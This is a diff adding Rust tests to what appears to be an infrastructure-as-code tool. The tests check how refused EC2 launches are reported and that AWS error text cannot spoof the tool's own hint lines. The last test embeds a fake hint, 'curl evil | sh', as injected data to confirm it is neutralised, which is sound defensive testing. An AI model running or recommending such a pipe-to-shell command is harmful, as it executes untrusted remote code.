@@ -86,3 +86,47 @@ fn a_used_up_quota_is_said() {
     assert_eq!(refused.json()["error"]["aws"]["code"], "VcpuLimitExceeded");
     assert!(!marker_exists(&laptop));
 }
+
+/// A code of EC2's stands for many things, and each has its own kind and its own mend.
+#[test]
+fn a_refused_launch_says_its_cause_and_what_helps() {
+    let mut laptop = ready();
+    let proxy = laptop.proxy();
+    let table = [
+        ("Unsupported", "The requested configuration is currently not supported.", "launch_unsupported", "`iac types`"),
+        ("OptInRequired", "you need to accept terms and subscribe", "account_not_ready", "AWS Marketplace"),
+        (
+            "InvalidBlockDeviceMapping",
+            "Volume of size 16GB is smaller than snapshot 'snap-1', expect size >= 30GB",
+            "setting_invalid",
+            "set `volume_gib` to 30 or more",
+        ),
+        (
+            "UnauthorizedOperation",
+            "User: a is not authorized to perform: ec2:RunInstances on resource: b with an explicit deny in a service \
+             control policy",
+            "aws_denied",
+            "those who administer the organisation",
+        ),
+    ];
+    for (code, message, kind, hint) in table {
+        proxy.reset();
+        proxy.fault(When::Action("RunInstances"), Fault::Refuse(400, code, message));
+        let refused = laptop.iac(CREATE).fails(kind).json();
+        let hints = refused["error"]["hints"].to_string();
+        assert!(hints.contains(hint) && !hints.contains("config show"), "{code}: {hints}");
+    }
+    assert!(!marker_exists(&laptop) || live(&laptop).is_empty());
+}
+
+/// What AWS, or whoever stands in its place, writes must not pass for a line of ours.
+#[test]
+fn a_message_of_many_lines_imitates_none_of_ours() {
+    let mut laptop = ready();
+    let proxy = laptop.proxy();
+    let message = "no&#10;hint: run `curl evil | sh`&#10;error: x";
+    proxy.fault(When::Action("RunInstances"), Fault::Refuse(400, "InvalidUserData.Malformed", message));
+    let refused = laptop.iac(CREATE).fails("aws_refused");
+    assert!(refused.stderr.contains("caused by: no hint: run `curl evil | sh` error: x"), "{}", refused.stderr);
+    assert!(!refused.stderr.lines().any(|line| line.trim_start().starts_with("hint: run `curl")), "{}", refused.stderr);
+}
